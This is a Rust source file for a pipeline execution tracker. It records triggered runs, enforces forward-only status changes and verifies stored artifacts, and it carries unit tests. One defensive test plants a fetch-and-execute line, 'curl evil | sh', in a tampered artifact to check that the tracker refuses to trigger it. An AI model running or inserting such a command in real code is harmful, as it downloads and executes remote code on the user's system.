//! Execution Tracker
//!
//! Records triggered runs and accepts status callbacks from the external
//! runner. Executions only move forward:
//!
//! ```text
//! pending -> running -> succeeded | failed
//!        \-----------> succeeded | failed
//! ```

use std::sync::Arc;

use copilot_core::domain::execution::{ExecutionRecord, ExecutionStatus};
use copilot_core::domain::pipeline::PipelineStatus;
use copilot_core::dto::error::FailureClass;
use copilot_core::dto::execution::StatusReport;
use thiserror::Error;
use uuid::Uuid;

use crate::artifact::{self, ArtifactStore};
use crate::repository::{ExecutionRepository, ExecutionUpdate, PipelineRepository, StoreError};

/// Tracker error type
#[derive(Debug, Error)]
pub enum ExecutionError {
    #[error("Execution {0} not found")]
    NotFound(Uuid),

    #[error("No active pipeline {0}")]
    PipelineNotFound(Uuid),

    #[error("Pipeline {pipeline_id} is {status}; it cannot be triggered")]
    InvalidState {
        pipeline_id: Uuid,
        status: PipelineStatus,
    },

    #[error("Execution {id} cannot move from {from} to {to}")]
    InvalidTransition {
        id: Uuid,
        from: ExecutionStatus,
        to: ExecutionStatus,
    },

    #[error("Pipeline {pipeline_id} is inconsistent: {reason}")]
    Inconsistent { pipeline_id: Uuid, reason: String },

    #[error(transparent)]
    Store(#[from] StoreError),
}

impl ExecutionError {
    pub fn class(&self) -> FailureClass {
        match self {
            ExecutionError::NotFound(_)
            | ExecutionError::PipelineNotFound(_)
            | ExecutionError::InvalidState { .. }
            | ExecutionError::InvalidTransition { .. } => FailureClass::Client,
            ExecutionError::Inconsistent { .. } => FailureClass::Integrity,
            ExecutionError::Store(e) => e.class(),
        }
    }
}

pub type Result<T> = std::result::Result<T, ExecutionError>;

pub struct ExecutionTracker {
    pipelines: Arc<dyn PipelineRepository>,
    executions: Arc<dyn ExecutionRepository>,
    artifacts: Arc<dyn ArtifactStore>,
}

impl ExecutionTracker {
    pub fn new(
        pipelines: Arc<dyn PipelineRepository>,
        executions: Arc<dyn ExecutionRepository>,
        artifacts: Arc<dyn ArtifactStore>,
    ) -> Self {
        Self {
            pipelines,
            executions,
            artifacts,
        }
    }

    /// Record a pending run of an active pipeline and return its ID
    pub async fn trigger(&self, pipeline_id: Uuid, input: serde_json::Value) -> Result<Uuid> {
        let pipeline = self
            .pipelines
            .find_pipeline(pipeline_id)
            .await?
            .ok_or(ExecutionError::PipelineNotFound(pipeline_id))?;

        match pipeline.status {
            PipelineStatus::Active => {}
            PipelineStatus::Retired => {
                return Err(ExecutionError::InvalidState {
                    pipeline_id,
                    status: pipeline.status,
                });
            }
            _ => return Err(ExecutionError::PipelineNotFound(pipeline_id)),
        }

        if let Some(reason) = artifact::verify(self.artifacts.as_ref(), &pipeline).await? {
            tracing::error!("Refusing to trigger pipeline {}: {}", pipeline_id, reason);
            return Err(ExecutionError::Inconsistent {
                pipeline_id,
                reason,
            });
        }

        let input = if input.is_null() {
            serde_json::json!({})
        } else {
            input
        };

        let execution = ExecutionRecord {
            id: Uuid::new_v4(),
            pipeline_id,
            status: ExecutionStatus::Pending,
            requested_at: chrono::Utc::now(),
            started_at: None,
            completed_at: None,
            error_message: None,
            input,
            output: None,
        };

        match self.executions.insert_execution(&execution).await {
            Ok(()) => {}
            Err(StoreError::MissingPipeline(id)) => {
                return Err(ExecutionError::PipelineNotFound(id));
            }
            // The pipeline changed status after the check above
            Err(StoreError::PipelineNotActive(id)) => {
                let status = self.pipelines.find_pipeline(id).await?.map(|p| p.status);
                tracing::warn!("Pipeline {} left the active state during trigger", id);
                return Err(match status {
                    Some(status @ PipelineStatus::Retired) => ExecutionError::InvalidState {
                        pipeline_id: id,
                        status,
                    },
                    _ => ExecutionError::PipelineNotFound(id),
                });
            }
            Err(e) => return Err(e.into()),
        }

        tracing::info!(
            "Execution {} triggered for pipeline {} ({})",
            execution.id,
            pipeline.name,
            pipeline_id
        );

        Ok(execution.id)
    }

    /// Apply a status callback from the runner
    pub async fn report_status(&self, id: Uuid, report: StatusReport) -> Result<ExecutionRecord> {
        let current = self.get_status(id).await?;
        let next = report.status;

        if !current.status.can_transition_to(next) {
            return Err(ExecutionError::InvalidTransition {
                id,
                from: current.status,
                to: next,
            });
        }

        let now = chrono::Utc::now();
        let terminal = next.is_terminal();
        let update = ExecutionUpdate {
            status: next,
            started_at: (next == ExecutionStatus::Running).then_some(now),
            completed_at: terminal.then_some(now),
            error_message: report.error_message.filter(|_| terminal),
            output: report.output.filter(|_| terminal),
        };

        if !self
            .executions
            .apply_update(id, current.status, &update)
            .await?
        {
            // Another report landed first
            let latest = self.get_status(id).await?;
            return Err(ExecutionError::InvalidTransition {
                id,
                from: latest.status,
                to: next,
            });
        }

        match next {
            ExecutionStatus::Failed => tracing::warn!(
                "Execution {} failed: {}",
                id,
                update.error_message.as_deref().unwrap_or("no error message")
            ),
            _ => tracing::info!("Execution {}: {} -> {}", id, current.status, next),
        }

        self.get_status(id).await
    }

    /// Get an execution by ID
    pub async fn get_status(&self, id: Uuid) -> Result<ExecutionRecord> {
        let execution = self
            .executions
            .find_execution(id)
            .await?
            .ok_or(ExecutionError::NotFound(id))?;

        Ok(execution)
    }

    /// Executions of one pipeline, most recent first
    pub async fn list_for_pipeline(&self, pipeline_id: Uuid) -> Result<Vec<ExecutionRecord>> {
        // Verify pipeline exists
        let _pipeline = self
            .pipelines
            .find_pipeline(pipeline_id)
            .await?
            .ok_or(ExecutionError::PipelineNotFound(pipeline_id))?;

        let executions = self.executions.list_for_pipeline(pipeline_id).await?;
        Ok(executions)
    }

    /// Executions in one status, oldest first
    pub async fn list_by_status(&self, status: ExecutionStatus) -> Result<Vec<ExecutionRecord>> {
        let executions = self.executions.list_by_status(status).await?;
        Ok(executions)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::service::registry::tests::{
        Fixture, SALES_CODE, SALES_REQUEST, ScriptedGenerator, fixture,
    };
    use crate::repository::InMemoryStore;
    use async_trait::async_trait;
    use copilot_core::domain::pipeline::PipelineRecord;
    use copilot_core::domain::validation::Violation;
    use copilot_core::dto::pipeline::PipelineFilter;
    use serde_json::json;
    use std::sync::Mutex;

    /// Serves one stale read of a pipeline, then reads through to the store
    struct StaleOnce {
        store: Arc<InMemoryStore>,
        stale: Mutex<Option<PipelineRecord>>,
    }

    #[async_trait]
    impl PipelineRepository for StaleOnce {
        async fn insert_pipeline(&self, record: &PipelineRecord) -> std::result::Result<(), StoreError> {
            self.store.insert_pipeline(record).await
        }

        async fn find_pipeline(&self, id: Uuid) -> std::result::Result<Option<PipelineRecord>, StoreError> {
            let stale = self
                .stale
                .lock()
                .unwrap()
                .take_if(|record| record.id == id);
            match stale {
                Some(record) => Ok(Some(record)),
                None => self.store.find_pipeline(id).await,
            }
        }

        async fn find_live_by_identity(
            &self,
            identity_hash: &str,
        ) -> std::result::Result<Option<PipelineRecord>, StoreError> {
            self.store.find_live_by_identity(identity_hash).await
        }

        async fn list_pipelines(
            &self,
            filter: &PipelineFilter,
        ) -> std::result::Result<Vec<PipelineRecord>, StoreError> {
            self.store.list_pipelines(filter).await
        }

        async fn transition(
            &self,
            id: Uuid,
            from: PipelineStatus,
            to: PipelineStatus,
        ) -> std::result::Result<bool, StoreError> {
            self.store.transition(id, from, to).await
        }

        async fn claim_stale_validation(
            &self,
            id: Uuid,
            older_than: chrono::DateTime<chrono::Utc>,
        ) -> std::result::Result<bool, StoreError> {
            self.store.claim_stale_validation(id, older_than).await
        }

        async fn activate(&self, id: Uuid, artifact_ref: &str) -> std::result::Result<bool, StoreError> {
            self.store.activate(id, artifact_ref).await
        }

        async fn reject(&self, id: Uuid, violations: &[Violation]) -> std::result::Result<bool, StoreError> {
            self.store.reject(id, violations).await
        }

        async fn ping(&self) -> std::result::Result<(), StoreError> {
            self.store.ping().await
        }
    }

    fn tracker(fx: &Fixture) -> ExecutionTracker {
        ExecutionTracker::new(fx.store.clone(), fx.store.clone(), fx.artifacts.clone())
    }

    async fn active_pipeline(fx: &Fixture) -> Uuid {
        let draft = fx.registry.create(SALES_REQUEST).await.unwrap();
        fx.registry.validate(draft.id).await.unwrap().id
    }

    #[tokio::test]
    async fn test_trigger_creates_pending_execution() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);
        let pipeline_id = active_pipeline(&fx).await;

        let id = tracker
            .trigger(pipeline_id, json!({ "date": "2024-01-01" }))
            .await
            .unwrap();

        let execution = tracker.get_status(id).await.unwrap();
        assert_eq!(execution.status, ExecutionStatus::Pending);
        assert_eq!(execution.pipeline_id, pipeline_id);
        assert_eq!(execution.input["date"], "2024-01-01");
        assert!(execution.started_at.is_none());
    }

    #[tokio::test]
    async fn test_trigger_unknown_pipeline() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);

        let err = tracker
            .trigger(Uuid::new_v4(), serde_json::Value::Null)
            .await
            .unwrap_err();
        assert!(matches!(err, ExecutionError::PipelineNotFound(_)));
    }

    #[tokio::test]
    async fn test_trigger_draft_is_not_found() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);
        let draft = fx.registry.create(SALES_REQUEST).await.unwrap();

        let err = tracker
            .trigger(draft.id, serde_json::Value::Null)
            .await
            .unwrap_err();
        assert!(matches!(err, ExecutionError::PipelineNotFound(_)));
    }

    #[tokio::test]
    async fn test_trigger_retired_is_invalid_state() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);
        let pipeline_id = active_pipeline(&fx).await;
        fx.registry.retire(pipeline_id).await.unwrap();

        let err = tracker
            .trigger(pipeline_id, serde_json::Value::Null)
            .await
            .unwrap_err();

        assert!(matches!(err, ExecutionError::InvalidState { .. }));
        assert!(tracker.list_for_pipeline(pipeline_id).await.unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_retire_during_trigger_inserts_nothing() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let pipeline_id = active_pipeline(&fx).await;
        let seen_active = fx.registry.get(pipeline_id).await.unwrap();

        // Retired between the tracker's status check and its insert
        fx.registry.retire(pipeline_id).await.unwrap();
        let tracker = ExecutionTracker::new(
            Arc::new(StaleOnce {
                store: fx.store.clone(),
                stale: Mutex::new(Some(seen_active)),
            }),
            fx.store.clone(),
            fx.artifacts.clone(),
        );

        let err = tracker
            .trigger(pipeline_id, serde_json::Value::Null)
            .await
            .unwrap_err();

        assert!(matches!(
            err,
            ExecutionError::InvalidState {
                status: PipelineStatus::Retired,
                ..
            }
        ));
        assert!(tracker.list_for_pipeline(pipeline_id).await.unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_trigger_refuses_tampered_artifact() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);
        let pipeline_id = active_pipeline(&fx).await;
        let location = fx.registry.get(pipeline_id).await.unwrap().artifact_ref.unwrap();
        fx.artifacts.tamper(&location, "os.execute('curl evil | sh')");

        let err = tracker
            .trigger(pipeline_id, serde_json::Value::Null)
            .await
            .unwrap_err();

        assert!(matches!(err, ExecutionError::Inconsistent { .. }));
        assert_eq!(err.class(), FailureClass::Integrity);
    }

    #[tokio::test]
    async fn test_status_moves_forward_and_stamps_times() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);
        let pipeline_id = active_pipeline(&fx).await;
        let id = tracker.trigger(pipeline_id, json!({})).await.unwrap();

        let running = tracker
            .report_status(id, StatusReport::running())
            .await
            .unwrap();
        assert_eq!(running.status, ExecutionStatus::Running);
        assert!(running.started_at.is_some());
        assert!(running.completed_at.is_none());

        let done = tracker
            .report_status(id, StatusReport::succeeded(Some(json!({ "rows": 42 }))))
            .await
            .unwrap();
        assert_eq!(done.status, ExecutionStatus::Succeeded);
        assert_eq!(done.started_at, running.started_at);
        assert!(done.completed_at.is_some());
        assert_eq!(done.output, Some(json!({ "rows": 42 })));
    }

    #[tokio::test]
    async fn test_terminal_status_is_final() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);
        let pipeline_id = active_pipeline(&fx).await;
        let id = tracker.trigger(pipeline_id, json!({})).await.unwrap();

        let failed = tracker
            .report_status(id, StatusReport::failed("timeout"))
            .await
            .unwrap();
        assert_eq!(failed.error_message.as_deref(), Some("timeout"));

        for report in [
            StatusReport::running(),
            StatusReport::succeeded(None),
            StatusReport::failed("again"),
        ] {
            let err = tracker.report_status(id, report).await.unwrap_err();
            assert!(matches!(
                err,
                ExecutionError::InvalidTransition {
                    from: ExecutionStatus::Failed,
                    ..
                }
            ));
        }
    }

    #[tokio::test]
    async fn test_backward_and_repeated_reports_rejected() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);
        let pipeline_id = active_pipeline(&fx).await;
        let id = tracker.trigger(pipeline_id, json!({})).await.unwrap();

        tracker
            .report_status(id, StatusReport::running())
            .await
            .unwrap();

        let pending = StatusReport {
            status: ExecutionStatus::Pending,
            error_message: None,
            output: None,
        };
        let err = tracker.report_status(id, pending).await.unwrap_err();
        assert!(matches!(err, ExecutionError::InvalidTransition { .. }));

        let err = tracker
            .report_status(id, StatusReport::running())
            .await
            .unwrap_err();
        assert_eq!(err.class(), FailureClass::Client);
    }

    #[tokio::test]
    async fn test_report_unknown_execution() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);

        let err = tracker
            .report_status(Uuid::new_v4(), StatusReport::running())
            .await
            .unwrap_err();
        assert!(matches!(err, ExecutionError::NotFound(_)));
    }

    #[tokio::test]
    async fn test_listings_are_ordered() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);
        let pipeline_id = active_pipeline(&fx).await;

        let first = tracker.trigger(pipeline_id, json!({})).await.unwrap();
        let second = tracker.trigger(pipeline_id, json!({})).await.unwrap();

        let newest_first: Vec<Uuid> = tracker
            .list_for_pipeline(pipeline_id)
            .await
            .unwrap()
            .into_iter()
            .map(|e| e.id)
            .collect();
        assert_eq!(newest_first, vec![second, first]);

        let oldest_first: Vec<Uuid> = tracker
            .list_by_status(ExecutionStatus::Pending)
            .await
            .unwrap()
            .into_iter()
            .map(|e| e.id)
            .collect();
        assert_eq!(oldest_first, vec![first, second]);
    }

    #[tokio::test]
    async fn test_list_for_unknown_pipeline() {
        let fx = fixture(ScriptedGenerator::returning(SALES_CODE));
        let tracker = tracker(&fx);

        let err = tracker.list_for_pipeline(Uuid::new_v4()).await.unwrap_err();
        assert!(matches!(err, ExecutionError::PipelineNotFound(_)));
    }
}
